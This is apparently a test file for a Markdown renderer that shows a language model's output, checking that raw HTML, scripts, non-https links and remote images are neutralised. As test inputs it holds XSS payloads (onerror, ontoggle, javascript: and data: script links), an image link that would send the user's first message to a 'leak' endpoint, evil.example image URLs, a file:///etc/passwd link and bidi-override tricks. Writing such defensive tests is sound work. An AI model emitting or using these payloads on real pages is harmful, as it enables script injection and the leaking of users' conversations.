// ui-01, ui-03: nothing in a model's text may run, be fetched or be followed, except https links that a person clicks.
import { render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it } from 'vitest';
import { Markdown } from '../../../renderer/markdown/Markdown';
import { pictureOrigin, plainAddress, safeLink } from '../../../renderer/markdown/links';

const show = (text: string, growing = false) => render(<Markdown text={text} growing={growing} />).container;

const HTML = `Hi <img src=x onerror="window.__pwn=1"> <iframe srcdoc="<script>parent.__pwn=2</script>"></iframe>
[click](javascript:window.__pwn=3) <a href="data:text/html,<script>window.__pwn=4</script>">d</a>
<details open ontoggle="window.__pwn=5"><summary>s</summary></details>

<script>window.__pwn=6</script>`;

describe('model text', () => {
  it('cannot bring elements of its own: raw HTML is shown as text', async () => {
    const page = show(HTML);
    expect(page.querySelector('img, iframe, script, details, summary, a')).toBeNull();
    expect(page.textContent).toContain('<iframe srcdoc=');
    await userEvent.click(screen.getByText('click'));
    expect((window as { __pwn?: number }).__pwn).toBeUndefined();
  });

  it('cannot fetch a picture: a box says where it would come from', () => {
    const page = show('![chart](http://127.0.0.1:18777/leak?q=my+first+message)');
    expect(page.querySelector('img')).toBeNull();
    expect(page.innerHTML).not.toContain('leak');
    expect(page.textContent).toContain('chart');
    expect(page.textContent).toContain('http://127.0.0.1:18777');
  });

  it('cannot fetch a picture through a reference or a formula', () => {
    const page = show('![a][r]\n\n[r]: https://evil.example/x.png\n\n$\\includegraphics{https://evil.example/y.png}$');
    expect(page.querySelector('img, image, [style*="url"]')).toBeNull();
  });

  it('links only to https, in a new tab that knows nothing of this one', () => {
    const page = show(
      '[a](https://example.org/x) [b](http://example.org) [c](file:///etc/passwd) [d](//x.example) <vbscript:x>',
    );
    const links = [...page.querySelectorAll('a')];
    expect(links).toHaveLength(1);
    expect(links[0]).toHaveAttribute('href', 'https://example.org/x');
    expect(links[0]).toHaveAttribute('target', '_blank');
    expect(links[0]?.rel).toContain('noopener');
    expect(links[0]?.rel).toContain('noreferrer');
  });

  it('keeps its order of reading to itself', () => {
    const page = show('abc \u202Edef\n\nnext');
    for (const block of page.querySelectorAll('p')) expect(block).toHaveAttribute('dir', 'auto');
  });

  it('cannot hide what code does with turned-around characters', () => {
    const page = show('```js\nif (a) { \u202E } // \u2066\n```');
    expect(page.textContent).toContain('⟨U+202E⟩');
    expect(page.querySelector('pre')?.textContent).not.toContain('\u202E');
  });
});

describe('addresses', () => {
  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' data:text/html,x',
    'http://a.example',
    'https://user:pw@a.example',
    '/x',
    '',
    undefined,
  ])('does not follow %s', (href) => expect(safeLink(href)).toBeUndefined());

  it('names only the origin of a picture', () => {
    expect(pictureOrigin('https://a.example/secret?q=1')).toBe('https://a.example');
    expect(pictureOrigin('data:image/png;base64,AAAA')).toBeUndefined();
    expect(plainAddress('javascript:x')).toBeUndefined();
  });
});
